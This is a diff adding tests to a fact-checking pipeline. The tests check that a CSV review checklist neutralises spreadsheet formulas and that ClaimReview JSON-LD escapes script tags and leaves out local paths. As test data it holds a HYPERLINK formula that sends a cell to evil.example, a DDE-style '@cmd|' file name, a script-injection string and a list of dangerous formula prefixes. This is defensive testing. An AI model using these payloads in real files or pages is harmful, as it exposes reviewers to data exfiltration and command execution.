@@ -102,3 +102,146 @@ def test_a_symlink_inside_the_folder_to_a_file_inside_it_is_fine(view, tmp_path)
     (mine / "front-v2.html").write_text("<p>DESK VERSION 2</p>", encoding="utf-8")
     (mine / "_front.html").symlink_to(mine / "front-v2.html")
     assert "DESK VERSION 2" in to_html(view, mine)
+
+
+# --- item 3: no spreadsheet formula in the checklist; verdicts still come back ---------------
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1;"El alcalde dijo que el sismo dejó 32 muertos en la ciudad el martes")',
+    "+El ministro Juan Pérez dijo que el sismo dejó 40 muertos el martes.",
+    "@SUMA(1+1) El ministro Juan Pérez aseguró que hubo 50 heridos el lunes.",
+    "-2+3 El alcalde afirmó que 70 casas cayeron el martes, según Protección Civil.",
+)
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def formulas():
+    """A briefing whose flagged claims and source name start like formulas."""
+    from conftest import fixture
+    from reporter.pipeline import brief, make_source
+    from reporter.settings import Settings
+
+    a = fixture("sismo_a.txt") + "".join(f"\n{line}\n" for line in FORMULAS)
+    s = Settings()
+    return brief([make_source("@cmd|' /C calc'!A0.txt", a, s), make_source("b.txt", fixture("sismo_b.txt"), s)], s)
+
+
+def rows_of(data: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_no_checklist_cell_starts_like_a_formula(formulas):
+    from reporter.review.checklist import to_csv
+
+    rows = rows_of(to_csv(formulas))
+    claims = {r["claim"] for r in rows}
+    assert {"'" + f for f in FORMULAS} <= claims  # every one is in the checklist, shown as text
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(DANGEROUS), (column, cell)
+    assert {r["source"] for r in rows if r["id"].startswith("A")} == {"'@cmd|' /C calc'!A0.txt"}
+
+
+def test_a_neutralised_claim_keeps_its_verdict_through_the_round_trip(formulas, tmp_path):
+    from dataclasses import replace
+
+    from reporter.review.checklist import attach, read_verdicts, to_csv
+    from reporter.review.claims import claim_key
+
+    rows = rows_of(to_csv(formulas))
+    hostile = [r for r in rows if r["claim"].startswith("'")]
+    assert len(hostile) == len(FORMULAS)
+    for r in hostile:  # the reviewer fills them in, with a formula and a tab-led note of their own
+        r["verdict"], r["notes"] = "engañoso", "=1+1 y\tmás"
+    hostile[0]["notes"] = "\t=cmd"
+    hostile[1]["notes"] = "\r=cmd"
+    filled = tmp_path / "review.csv"
+    with filled.open("w", encoding="utf-8-sig", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    reviewed = read_verdicts(filled)
+    verdicts, unmatched = attach(reviewed, formulas)
+    assert unmatched == ()
+    originals = {claim_key(s.text): s.text for a in formulas.articles for s in a.sentences}
+    assert sorted(originals[k] for k in verdicts) == sorted(FORMULAS)  # each landed on its own claim
+    # written back: the verdicts are there, the reviewer's formulas are text too
+    again = rows_of(to_csv(replace(formulas, verdicts=verdicts)))
+    for row in again:
+        for column, cell in row.items():
+            assert not cell.startswith(DANGEROUS), (column, cell)
+    assert sorted(r["verdict"] for r in again if r["verdict"]) == ["engañoso"] * len(FORMULAS)
+    # and a checklist read back again keeps matching (the quote is never doubled)
+    again_file = tmp_path / "again.csv"
+    again_file.write_bytes(to_csv(replace(formulas, verdicts=verdicts)))
+    assert attach(read_verdicts(again_file), formulas)[1] == ()
+    assert to_csv(replace(formulas, verdicts=dict(attach(read_verdicts(again_file), formulas)[0]))) == \
+        again_file.read_bytes()
+
+
+def test_a_spreadsheet_that_drops_the_quote_still_matches_by_the_claim(formulas, tmp_path):
+    from reporter.review.checklist import attach, read_verdicts, to_csv
+
+    rows = rows_of(to_csv(formulas))
+    for r in rows:
+        if r["claim"].startswith("'"):
+            r["claim"], r["key"], r["verdict"] = r["claim"][1:], "", "accurate"
+    filled = tmp_path / "review.csv"
+    with filled.open("w", encoding="utf-8-sig", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    verdicts, unmatched = attach(read_verdicts(filled), formulas)
+    assert unmatched == () and len(verdicts) == len(FORMULAS)
+
+
+# --- item 4: ClaimReview JSON-LD that can be embedded, naming no local path ------------------
+
+
+def reviewed_briefing(label_a: str, label_b: str = "b.txt"):
+    from dataclasses import replace
+
+    from conftest import fixture
+    from reporter.pipeline import brief, make_source
+    from reporter.review.checklist import Verdict
+    from reporter.review.claims import claim_key
+    from reporter.settings import Settings
+
+    hostile = ("El alcalde dijo que el sismo dejó 32 muertos </script><script>alert('x & y')</script> "
+               "en la ciudad el martes.")
+    s = Settings()
+    b = brief([make_source(label_a, fixture("sismo_a.txt") + f"\n{hostile}\n", s),
+               make_source(label_b, fixture("sismo_b.txt"), s)], s)
+    flagged = [b.sentence(f.sentence) for f in b.flags]
+    assert any("</script>" in x.text for x in flagged)
+    verdicts = {claim_key(x.text): Verdict("misleading", "Notes </script> & <b>", "engañoso") for x in flagged}
+    return replace(b, verdicts=verdicts), hostile
+
+
+def test_claimreview_escapes_what_would_end_a_script_element():
+    from reporter.review.checklist import claimreview
+
+    b, hostile = reviewed_briefing("/home/desk/private/a.txt")
+    data = claimreview(b)
+    for raw in (b"<", b">", b"&"):
+        assert raw not in data
+    assert b"\\u003c/script\\u003e" in data
+    items = json.loads(data)  # the same values, read back
+    assert hostile in {i["claimReviewed"] for i in items}
+    assert {i["reviewBody"] for i in items} == {"Notes </script> & <b>"}
+
+
+def test_claimreview_names_no_local_path_and_keeps_a_source_url():
+    from reporter.review.checklist import claimreview
+
+    b, _ = reviewed_briefing("/home/desk/private/a.txt", "https://news.example/story?id=1&lang=es")
+    data = claimreview(b)
+    assert b"/home/desk" not in data and b"private" not in data
+    items = json.loads(data)
+    by_source = {}
+    for i in items:
+        appearance = i["itemReviewed"]["appearance"]
+        by_source.setdefault(appearance.get("url"), []).append(appearance)
+    assert set(by_source) == {None, "https://news.example/story?id=1&lang=es"}
+    assert all("url" not in a for a in by_source[None])
